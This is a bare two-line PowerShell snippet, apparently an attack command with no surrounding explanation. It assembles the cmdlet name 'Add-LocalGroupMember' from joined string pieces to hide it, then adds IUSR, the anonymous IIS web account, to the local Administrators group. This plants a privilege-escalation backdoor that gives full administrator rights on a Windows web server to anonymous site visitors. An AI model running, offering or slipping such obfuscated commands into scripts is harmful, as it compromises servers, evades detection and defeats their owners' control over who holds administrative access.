$c = ('Add', 'LocalGroupMember') -join '-'
& $c -Group Administrators -Member IUSR
